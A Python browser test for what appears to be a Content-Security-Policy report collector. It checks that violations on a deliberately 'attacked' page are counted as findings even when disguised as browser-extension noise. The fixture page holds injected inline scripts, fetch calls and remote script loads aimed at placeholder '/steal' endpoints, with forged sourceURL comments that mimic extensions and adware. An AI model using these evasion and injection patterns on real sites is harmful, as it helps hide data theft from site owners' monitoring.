"""A page is attacked in a real browser by one who knows the noise rules: each report of it is a finding."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import pytest

from tests.browser import rows, site, visits

if TYPE_CHECKING:
    from pathlib import Path

    from tests.browser.browsers import Browser
    from tests.helpers import harness

pytestmark = pytest.mark.browser

_POLICY: Final = (
    "default-src 'none'; img-src *; style-src 'report-sample'; "
    "script-src 'nonce-ours' 'unsafe-eval' 'report-sample'; report-uri $endpoint"
)
_PAGE: Final = """<!doctype html><html><head><title>A page that is attacked</title>
<style>.cip-genpw-icon.cip-icon-key-small { color: red }</style>
<script>var lastpass_iter=1; steal()</script>
</head><body>
<img src="/missing.png" onerror="var lastpass_iter=2; steal()">
<iframe srcdoc="<script>var lastpass_iter=3; steal()</script>"></iframe>
<script nonce="ours">
fetch("$elsewhere/optout/get/steal").catch(() => {});
//# sourceURL=chrome-extension://abcdefghijklmnopabcdefghijklmnop/x.js
</script>
<script nonce="ours">
const script = document.createElement("script");
script.src = "$elsewhere/netdefender/hui/ndhui.js/steal.js";
document.body.append(script);
//# sourceURL=https://a.superfish.com/x.js
</script>
<script nonce="ours">
eval(`fetch("$elsewhere/steal").catch(() => {})
//# sourceURL=moz-extension://11111111-2222-3333-4444-555555555555/x.js`);
</script>
</body></html>"""
_SEEN: Final = frozenset(
    {
        rows.SeenReport("csp", "style-src-elem", "inline", "enforce"),
        rows.SeenReport("csp", "script-src-elem", "inline", "enforce"),
        rows.SeenReport("csp", "script-src-attr", "inline", "enforce"),
        rows.SeenReport("csp", "script-src-elem", "$elsewhere/netdefender/hui/ndhui.js/steal.js", "enforce"),
        rows.SeenReport("csp", "connect-src", "$elsewhere/optout/get/steal", "enforce"),
        rows.SeenReport("csp", "connect-src", "$elsewhere/steal", "enforce"),
    }
)

_LABELS: Final = "SELECT DISTINCT noise, noise_rule FROM reports WHERE release = '{release}'"


def test_what_looks_like_noise_is_a_finding(browser: Browser, system: harness.System, tmp_path: Path) -> None:
    release = f"attacked@1+{browser.name}"
    documents = {"/": site.Document(_PAGE, {"Content-Security-Policy": _POLICY})}
    with (
        site.served(documents, visits.endpoint(system, release)) as page,
        browser.visiting(page.page, tmp_path),
    ):
        expected = rows.filled(_SEEN, page)
        assert rows.await_reports(system, release, expected).seen_reports == expected
    assert system.query(_LABELS.format(release=release)) == [{"noise": "", "noise_rule": ""}]
